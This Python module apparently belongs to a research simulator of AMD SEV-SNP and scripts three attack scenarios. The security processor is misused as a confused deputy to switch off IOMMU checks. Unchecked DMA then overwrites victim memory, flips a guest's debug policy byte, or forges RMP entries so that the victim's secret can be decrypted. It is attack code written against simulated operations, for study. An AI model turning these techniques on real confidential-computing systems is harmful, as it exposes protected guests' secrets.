"""The security processor as a confused deputy: it switches the IOMMU's checks off (rows 38, 82a, 82b: BreakFAST).

Its accesses to one page are turned to registers of the Control Fabric. SNP_DBG_DECRYPT of a
guest of the attacker's own, which may be debugged, writes there what that guest holds.
"""

from __future__ import annotations

from node.fast_registers import IOMMU_ENFORCEMENT, PAIR
from node.operations import (
    DeviceRead,
    DeviceWrite,
    FabricDivert,
    HostClear,
    HostRead,
    HostWrite,
    PspAnswer,
    RmpUpdate,
)
from node.rmp_entry import ENTRY_BYTES
from psp import command_buffers as buffers
from psp.commands import SnpCommand
from psp.guest_context import POLICY_OFFSET
from psp.policy import SnpPolicy
from psp.system_bus import PAGE_BYTES, RmpEntry
from workloads.attacks.dma import IOVA, SLOT, attach
from workloads.attacks.small_guest import POLICY, SmallGuest, Steps
from workloads.attacks.target import LET_IT_RUN, WRITE_BACK, Attack, Target
from workloads.attacks.write_memory import JUNK

_DEBUG_BYTE = POLICY_OFFSET + 7
"""Near 0x1FF: another byte of ciphertext here is another policy."""
_TRIES = 24
"""Each turns debugging on with even chances."""


def write_by_device(target: Target) -> Attack:
    """Row 82a: a device that nothing checks any more stores junk over a value."""
    yield LET_IT_RUN
    yield from _clear_enforcement(target)
    yield from attach(target, target.victim.value.spa)
    yield WRITE_BACK
    yield (DeviceWrite(SLOT, IOVA, JUNK),)
    yield WRITE_BACK


def turn_debugging_on(target: Target) -> Attack:
    """Row 38: the device changes the policy in the victim's Context page, and the firmware decrypts."""
    yield LET_IT_RUN
    yield from _clear_enforcement(target)
    yield from attach(target, target.victim.gctx)
    yield WRITE_BACK
    (found,) = yield (DeviceRead(SLOT, IOVA + _DEBUG_BYTE, 1),)
    guest = SmallGuest.of(target)
    out = target.spare[3]
    yield (RmpUpdate(out, PAGE_BYTES, RmpEntry(assigned=True, immutable=True)),)
    for change in range(1, _TRIES + 1):
        if isinstance(found, bytes):
            yield (DeviceWrite(SLOT, IOVA + _DEBUG_BYTE, bytes([found[0] ^ change])),)
            yield WRITE_BACK
        decrypt = buffers.SnpDebug(target.victim.gctx, target.victim.secret.spa, out)
        (answer,) = yield guest.call(SnpCommand.DBG_DECRYPT, decrypt)
        if isinstance(answer, PspAnswer) and answer.status == 0:
            break
    yield (HostRead(out, PAGE_BYTES),)


def forge_entries(target: Target) -> Attack:
    """Row 82b: the device changes the RMP's entry of that page, so that the hypervisor itself may store to it."""
    yield LET_IT_RUN
    yield from _clear_enforcement(target)
    context = target.victim.gctx
    entry = target.ground.rmp.entry_spa(context // PAGE_BYTES)
    page, offset = entry // PAGE_BYTES * PAGE_BYTES, entry % PAGE_BYTES
    yield from attach(target, page)
    yield WRITE_BACK
    kept, found = (yield (DeviceRead(SLOT, IOVA + offset, ENTRY_BYTES),)) + (
        yield (HostRead(context + _DEBUG_BYTE, 1),)
    )
    guest = SmallGuest.of(target)
    out = target.spare[3]
    yield (RmpUpdate(out, PAGE_BYTES, RmpEntry(assigned=True, immutable=True)),)
    decrypt = buffers.SnpDebug(context, target.victim.secret.spa, out)
    for change in range(1, _TRIES + 1):
        if not isinstance(kept, bytes) or not isinstance(found, bytes):
            break
        yield (DeviceWrite(SLOT, IOVA + offset, bytes(ENTRY_BYTES)),)
        yield WRITE_BACK
        yield (HostWrite(context + _DEBUG_BYTE, bytes([found[0] ^ change])),)
        yield WRITE_BACK
        yield (DeviceWrite(SLOT, IOVA + offset, kept),)
        yield WRITE_BACK
        (answer,) = yield guest.call(SnpCommand.DBG_DECRYPT, decrypt)
        if isinstance(answer, PspAnswer) and answer.status == 0:
            break
    yield (HostRead(out, PAGE_BYTES),)


def _clear_enforcement(target: Target) -> Steps:
    guest = SmallGuest.of(target)
    deputy = target.spare[3]
    yield from guest.launch(PAIR.pack(IOMMU_ENFORCEMENT, 0), POLICY | SnpPolicy.DEBUG)
    yield from guest.finish()
    yield (RmpUpdate(deputy, PAGE_BYTES, RmpEntry(assigned=True, immutable=True)),)
    yield (FabricDivert(deputy),)
    yield guest.call(SnpCommand.DBG_DECRYPT, buffers.SnpDebug(guest.context, guest.code, deputy))
    yield (FabricDivert(None),)
    yield from guest.take_down()
    yield guest.call(SnpCommand.PAGE_RECLAIM, buffers.SnpPageReclaim(deputy))
    yield (RmpUpdate(deputy, PAGE_BYTES, RmpEntry()),)
    yield tuple(HostClear(spa, PAGE_BYTES) for spa in target.spare)  # they become tables
